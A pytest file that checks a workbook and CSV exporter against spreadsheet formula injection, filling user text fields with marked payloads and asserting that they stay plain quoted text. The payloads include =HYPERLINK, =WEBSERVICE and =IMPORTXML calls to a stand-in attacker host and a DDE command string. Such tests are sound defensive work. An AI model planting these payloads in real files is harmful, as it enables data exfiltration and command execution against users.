"""User text never becomes a formula: in the workbook, and in CSV output.

Every text field a person can set (scenario name and notes, level names, vendor
and plan names, a model's name, cache and phase names, checklist items,
provenance notes) is filled with formula-like text carrying a marker ('ZQX').
The exported workbook, read back with openpyxl (formulas kept), must hold each
piece as a string cell (data_type 's', quote-prefixed where it starts like a
formula), and no formula, defined name or drop-down list may contain a marker.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest

from model.loading import plan_scenario
from model.overrides import with_overrides

ROOT = Path(__file__).resolve().parents[2]
MARK = "ZQX"
FORMULA_START = ("=", "+", "-", "@")

PAYLOADS: dict[str, str] = {
    "name": f'=HYPERLINK("http://evil.example/{MARK}1","click")',
    "notes": f"+{MARK}2+1",
    "levels.0.name": f"-{MARK}3-1",
    "levels.0.line_items.0.vendor": f"@SUM({MARK}4)",
    "levels.0.line_items.0.plan": f"={MARK}5*2",
    "caching.caches.0.name": f"\t={MARK}7",
    "ai.optimisation_phases.0.name": f"=1+{MARK}8",
    "levels.0.when": f'=IMPORTXML(CONCAT("http://x/?",{MARK}9),"//a")',
    "provenance.days_per_month.note": f'=WEBSERVICE("http://evil.example/{MARK}10")',
}
CHECKLIST_ITEM = f"=cmd|' /C calc'!{MARK}6"
MODEL = f"={MARK}11+gpt"  # a model name only the scenario prices (price override)


def hostile_scenario() -> Any:
    plan = plan_scenario()
    prices = {"input_usd_per_mtok": 1.0, "cached_input_usd_per_mtok": 0.5, "output_usd_per_mtok": 2.0}
    return with_overrides(
        plan,
        {
            **PAYLOADS,
            "levels.1.checklist": [*plan.levels[1].checklist, CHECKLIST_ITEM],  # added: capacity triggers name the others
            "ai.model_mix.1.model": MODEL,
            "ai.price_overrides": {MODEL: prices},
        },
    )


def cells(wb: Any) -> list[tuple[str, str, str, Any, bool]]:
    """(sheet, coordinate, data_type, value, quotePrefix) of every non-empty cell."""
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    out.append((ws.title, c.coordinate, c.data_type, c.value, bool(c.quotePrefix)))
    return out


@pytest.fixture(scope="module")
def workbook() -> Any:
    workbook_mod = pytest.importorskip("outputs.workbook")
    from openpyxl import load_workbook

    scenario = hostile_scenario()
    other = with_overrides(plan_scenario(), {"name": f'=HYPERLINK("http://evil.example/{MARK}12")'})
    data = workbook_mod.workbook_bytes(scenario, others={"plan": plan_scenario(), f"={MARK}13": other})
    return load_workbook(io.BytesIO(data))  # formulas kept as formulas


def test_no_formula_contains_user_text(workbook: Any) -> None:
    formulas = [
        (s, c, v) for s, c, t, v, _ in cells(workbook) if t == "f" or (isinstance(v, str) and v.startswith("=") and t != "s")
    ]
    assert formulas, "the workbook has live formulas (else this test could not fail)"
    leaked = [(s, c, v) for s, c, v in formulas if MARK in str(v)]
    assert not leaked, leaked[:5]


def test_user_text_is_stored_as_text(workbook: Any) -> None:
    texts = [(s, c, t, v, q) for s, c, t, v, q in cells(workbook) if isinstance(v, str) and MARK in v]
    assert texts, "the user text is in the workbook"
    assert all(t == "s" for _, _, t, _, _ in texts), [x for x in texts if x[2] != "s"][:5]
    risky = [x for x in texts if x[3].startswith(FORMULA_START)]
    assert all(q for *_, q in risky), [x for x in risky if not x[4]][:5]


def test_every_field_reaches_the_workbook_as_written(workbook: Any) -> None:
    """The fields a person would look for are there verbatim (tabs become spaces), so the checks above saw them."""
    values = {v for _, _, _, v, _ in cells(workbook) if isinstance(v, str)}
    joined = "\n".join(values)
    for path in ("name", "levels.0.line_items.0.vendor", "levels.0.line_items.0.plan"):
        assert PAYLOADS[path] in joined, path
    assert PAYLOADS["name"] in values, "the scenario name is a cell of its own"


def test_no_defined_name_or_drop_down_carries_user_text(workbook: Any) -> None:
    for name, dn in workbook.defined_names.items():
        assert MARK not in str(dn.attr_text), name
    for ws in workbook.worksheets:
        for name, dn in ws.defined_names.items():
            assert MARK not in str(dn.attr_text), (ws.title, name)
        for dv in ws.data_validations.dataValidation:
            assert MARK not in str(dv.formula1 or ""), (ws.title, dv.formula1)


def test_csv_output_quotes_formula_like_text() -> None:
    from cli.common import render

    rows = [{"level_name": v, "usd": 1.0} for v in (*PAYLOADS.values(), "-5", "plain")]
    lines = render(rows, "csv").splitlines()[1:]
    for line, value in zip(lines, (*PAYLOADS.values(), "-5", "plain"), strict=True):
        if value.startswith(FORMULA_START) or value.startswith("\t"):
            assert not line.lstrip('"').startswith((*FORMULA_START, "\t")), line
